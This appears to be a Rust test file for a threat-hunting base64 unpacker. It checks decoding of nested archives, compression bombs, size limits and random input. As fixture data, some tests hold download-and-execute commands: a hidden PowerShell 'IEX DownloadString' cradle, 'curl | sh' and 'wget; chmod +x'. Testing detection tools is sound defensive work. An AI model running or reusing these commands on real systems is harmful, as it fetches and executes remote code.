//! Base64 unpacking against msticpy's test files, generated archives and decompression bombs.

// Test helpers outside #[test] functions unwrap too: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use std::io::{Cursor, Write};

use ::zip::write::SimpleFileOptions;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::GzEncoder;
use huntbook_analysis::b64::{B64Unpacker, Decoded, FileType, TextEncoding, UnpackOptions};
use huntbook_testkit::shared_data;
use polars::prelude::*;

fn read_shared(rel: &str) -> Option<String> {
    let Some(path) = shared_data(rel) else {
        eprintln!("skipping: shared test data {rel} is not available");
        return None;
    };
    Some(std::fs::read_to_string(path).unwrap())
}

fn md5s(nodes: &[Decoded]) -> Vec<&str> {
    nodes.iter().filter_map(|n| n.md5.as_deref()).collect()
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(::zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        writer.start_file(*name, opts).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn gzip_of(data: &[u8]) -> Vec<u8> {
    let mut enc = GzEncoder::new(Vec::new(), Compression::fast());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

fn zeros_gzip(megabytes: usize) -> Vec<u8> {
    let mut enc = GzEncoder::new(Vec::new(), Compression::fast());
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..megabytes {
        enc.write_all(&chunk).unwrap();
    }
    enc.finish().unwrap()
}

fn zeros_zip(megabytes: usize) -> Vec<u8> {
    let mut writer = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .start_file("zeros.bin", SimpleFileOptions::default())
        .unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..megabytes {
        writer.write_all(&chunk).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// msticpy's test_nested_archive: a tar and a zip, each holding dllenc.txt, txtenc.txt and
/// txtenc.txt.gz. msticpy reports 8 rows; the members' hashes are the parity check.
#[test]
fn nested_archive_matches_msticpy_members() {
    let Some(text) = read_shared("logs/msticpy/base64msg.txt") else {
        return;
    };
    let nodes = B64Unpacker::default().unpack(&text);

    assert_eq!(nodes[0].reference, vec![1]);
    assert_eq!(nodes[0].file_type, FileType::Tar);
    let zip_top = nodes.iter().find(|n| n.reference == vec![2]).unwrap();
    assert_eq!(zip_top.file_type, FileType::Zip);

    // Every hash msticpy lists (its 8 rows) is among ours.
    let ours = md5s(&nodes);
    for want in [
        "9fd687fb66a85f89cc413728a179fb0d",
        "87adcc213a88d165d4da4ad89827c438",
        "709ca834c405231a89d0c7c9d732fc98",
        "69fbfeacd07be73e29b7786f663aba07",
        "3414109cd3c337be290997995549fa96",
    ] {
        assert!(ours.contains(&want), "missing md5 {want}");
    }

    for container in [FileType::Tar, FileType::Zip] {
        let names: Vec<&str> = nodes
            .iter()
            .filter(|n| n.container == Some(container))
            .filter_map(|n| n.file_name.as_deref())
            .collect();
        assert_eq!(
            names,
            vec!["dllenc.txt", "txtenc.txt", "txtenc.txt.gz"],
            "{container}"
        );
    }

    // Beyond msticpy: the gzip member is opened and the UTF-16 text inside txtenc.txt read.
    let gz = nodes
        .iter()
        .find(|n| n.file_name.as_deref() == Some("txtenc.txt.gz") && n.file_type == FileType::Gzip)
        .unwrap();
    assert!(nodes.iter().any(|n| n.reference.starts_with(&gz.reference)
        && n.reference.len() == gz.reference.len() + 1
        && n.container == Some(FileType::Gzip)));
    let utf16 = nodes
        .iter()
        .find(|n| n.md5.as_deref() == Some("3414109cd3c337be290997995549fa96"))
        .unwrap();
    assert_eq!(utf16.encoding, TextEncoding::Utf16Le);
    assert_eq!(utf16.decoded_string.as_deref(), Some("text\r\nfile\r\n"));
    assert!(
        nodes.iter().all(|n| n.status.is_ok()),
        "{:?}",
        nodes
            .iter()
            .map(|n| n.status.to_string())
            .collect::<Vec<_>>()
    );
}

/// msticpy's test_archive_string: a zip holding a UTF-16 text file.
#[test]
fn archive_string_matches_msticpy() {
    let Some(text) = read_shared("logs/msticpy/b64text_inzip.txt") else {
        return;
    };
    let nodes = B64Unpacker::default().unpack(&text);
    assert_eq!(nodes[0].file_type, FileType::Zip);
    let member = &nodes[1];
    assert_eq!(member.file_name.as_deref(), Some("txtenc.txt"));
    assert_eq!(
        member.md5.as_deref(),
        Some("87adcc213a88d165d4da4ad89827c438")
    );
    assert!(md5s(&nodes).contains(&"3414109cd3c337be290997995549fa96"));
}

/// msticpy's test_nested_archive_df: two identical rows give twice the rows, joined back by
/// src_row.
#[test]
fn frame_of_two_rows_doubles_the_rows() {
    let Some(text) = read_shared("logs/msticpy/base64msg.txt") else {
        return;
    };
    let unpacker = B64Unpacker::default();
    let single = unpacker.unpack(&text).len();
    let input = DataFrame::new(
        3,
        vec![Column::new(
            "input".into(),
            [Some(text.as_str()), None, Some(text.as_str())],
        )],
    )
    .unwrap();
    let out = unpacker.unpack_frame(&input, "input").unwrap();
    assert_eq!(out.height(), 2 * single);
    assert_eq!(
        out.get_column_names().len(),
        huntbook_analysis::b64::COLUMNS.len()
    );
    let rows: Vec<Option<u32>> = out
        .column("src_row")
        .unwrap()
        .u32()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(rows.iter().filter(|r| **r == Some(0)).count(), single);
    assert_eq!(rows.iter().filter(|r| **r == Some(2)).count(), single);
    let full = out
        .column("full_decoded_string")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap();
    assert!(full.starts_with("There should be a tar file here:<decoded type='tar'"));

    let err = unpacker.unpack_frame(&input, "nope").unwrap_err();
    assert!(err.to_string().contains("input"), "{err}");
}

#[test]
fn powershell_encoded_command_is_utf16() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let cmd = format!(
        "powershell.exe -nop -w hidden -enc {}",
        STANDARD.encode(utf16)
    );
    let nodes = B64Unpacker::default().unpack(&cmd);
    assert_eq!(nodes.len(), 1);
    assert_eq!(nodes[0].encoding, TextEncoding::Utf16Le);
    assert_eq!(nodes[0].decoded_string.as_deref(), Some(script));
}

#[test]
fn bzip2_xz_and_raw_deflate_are_opened() {
    let payload = b"curl -s http://203.0.113.9/run.sh | sh; echo done with this payload";

    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    bz.write_all(payload).unwrap();
    let bz = bz.finish().unwrap();

    let mut xz = Vec::new();
    lzma_rs::xz_compress(&mut &payload[..], &mut xz).unwrap();

    let mut raw = flate2::write::DeflateEncoder::new(Vec::new(), Compression::default());
    raw.write_all(payload).unwrap();
    let raw = raw.finish().unwrap();

    for (blob, kind) in [
        (bz, FileType::Bzip2),
        (xz, FileType::Xz),
        (raw, FileType::Deflate),
    ] {
        let nodes = B64Unpacker::default().unpack(&STANDARD.encode(&blob));
        assert_eq!(nodes[0].file_type, kind);
        assert_eq!(
            nodes[1].decoded_string.as_deref().map(str::as_bytes),
            Some(&payload[..]),
            "{kind}"
        );
        assert_eq!(nodes[1].container, Some(kind));
    }
}

#[test]
fn base64_inside_gzip_inside_zip_is_followed() {
    let inner = STANDARD.encode("wget http://203.0.113.2/x -O /tmp/x; chmod +x /tmp/x");
    let zip = zip_of(&[(
        "run.sh.gz",
        &gzip_of(format!("echo {inner} | base64 -d | sh").as_bytes()),
    )]);
    let nodes = B64Unpacker::default().unpack(&format!("data={}", STANDARD.encode(zip)));
    let refs: Vec<String> = nodes.iter().map(Decoded::reference_string).collect();
    assert_eq!(refs, vec!["1", "1.1", "1.1.1", "1.1.1.1"]);
    assert_eq!(
        nodes[3].decoded_string.as_deref(),
        Some("wget http://203.0.113.2/x -O /tmp/x; chmod +x /tmp/x")
    );
    assert_eq!(nodes[3].depth, 4);
}

#[test]
fn gzip_bomb_is_flagged_not_expanded() {
    let bomb = zeros_gzip(100);
    let opts = UnpackOptions::default().with_max_item_bytes(4 * 1024 * 1024);
    let nodes = B64Unpacker::new(opts).unpack(&STANDARD.encode(&bomb));
    assert_eq!(nodes.len(), 2);
    assert_eq!(nodes[0].file_type, FileType::Gzip);
    assert!(
        nodes[1]
            .status
            .to_string()
            .starts_with("limit: decompressed size passed max_item_bytes"),
        "{}",
        nodes[1].status
    );
    assert!(nodes[1].bytes.is_empty() && nodes[1].md5.is_none());
}

/// Nested zip bomb: an outer zip of eight inner zips, each 10 MB of zeros. The 64 MiB total
/// budget runs out part way; what is past it is flagged, and nothing exceeds the budget.
#[test]
fn nested_zip_bomb_stops_at_the_total_budget() {
    let inner = zeros_zip(10);
    let names: Vec<String> = (0..8).map(|i| format!("part{i}.zip")).collect();
    let entries: Vec<(&str, &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), inner.as_slice()))
        .collect();
    let outer = zip_of(&entries);
    let encoded = STANDARD.encode(&outer);
    assert!(
        encoded.len() < 1_000_000,
        "the bomb should be small: {}",
        encoded.len()
    );

    let opts = UnpackOptions::default();
    let nodes = B64Unpacker::new(opts.clone()).unpack(&encoded);
    let held: u64 = nodes.iter().map(|n| n.bytes.len() as u64).sum();
    assert!(
        held <= opts.max_total_bytes + outer.len() as u64 * 2,
        "held {held} bytes"
    );
    let limited: Vec<&Decoded> = nodes
        .iter()
        .filter(|n| n.status.to_string().starts_with("limit:"))
        .collect();
    assert!(!limited.is_empty());
    assert!(
        limited
            .iter()
            .all(|n| n.status.to_string().contains("max_total_bytes"))
    );
    let expanded = nodes
        .iter()
        .filter(|n| n.file_name.as_deref() == Some("zeros.bin") && n.status.is_ok())
        .count();
    assert!((1..8).contains(&expanded), "expanded {expanded}");
}

#[test]
fn archive_entry_and_depth_limits() {
    let names: Vec<String> = (0..20).map(|i| format!("f{i}.txt")).collect();
    let entries: Vec<(&str, &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), &b"plain text member"[..]))
        .collect();
    let encoded = STANDARD.encode(zip_of(&entries));

    let nodes =
        B64Unpacker::new(UnpackOptions::default().with_max_archive_entries(5)).unpack(&encoded);
    assert_eq!(nodes.len(), 6);
    assert!(
        nodes[0]
            .status
            .to_string()
            .starts_with("limit: archive has 20 members; only the first 5")
    );

    let nodes = B64Unpacker::new(UnpackOptions::default().with_max_depth(1)).unpack(&encoded);
    assert_eq!(nodes.len(), 1);
    assert!(nodes[0].status.to_string().contains("max_depth 1"));
}

#[test]
fn corrupt_archives_are_reported_not_fatal() {
    let good = zip_of(&[("a.txt", &b"some text in the archive here"[..])]);
    let cut = &good[..good.len() / 2];
    let nodes = B64Unpacker::default().unpack(&STANDARD.encode(cut));
    assert_eq!(nodes[0].file_type, FileType::Zip);
    assert!(
        nodes[0]
            .status
            .to_string()
            .starts_with("error: zip archive could not be opened"),
        "{}",
        nodes[0].status
    );

    let gz = gzip_of(b"hello hello hello hello hello");
    let nodes = B64Unpacker::default().unpack(&STANDARD.encode(&gz[..gz.len() - 6]));
    assert!(
        nodes[1].status.to_string().starts_with("error:"),
        "{}",
        nodes[1].status
    );
}

/// No input, however odd, makes the unpacker panic.
#[test]
fn arbitrary_input_never_panics() {
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let unpacker = B64Unpacker::default();
    let magics: [&[u8]; 6] = [
        b"PK\x03\x04",
        b"\x1f\x8b\x08",
        b"BZh9",
        b"\xfd7zXZ\x00",
        b"\x78\x9c",
        b"MZ",
    ];
    for round in 0..400 {
        let len = (next() % 300) as usize;
        let mut bytes: Vec<u8> = (0..len).map(|_| next() as u8).collect();
        let magic = magics[round % magics.len()];
        bytes.splice(0..0, magic.iter().copied());
        let text = format!(
            "{} {}",
            STANDARD.encode(&bytes),
            String::from_utf8_lossy(&bytes)
        );
        let _ = unpacker.unpack(&text);
        let _ = unpacker.expand(&text);
    }
}
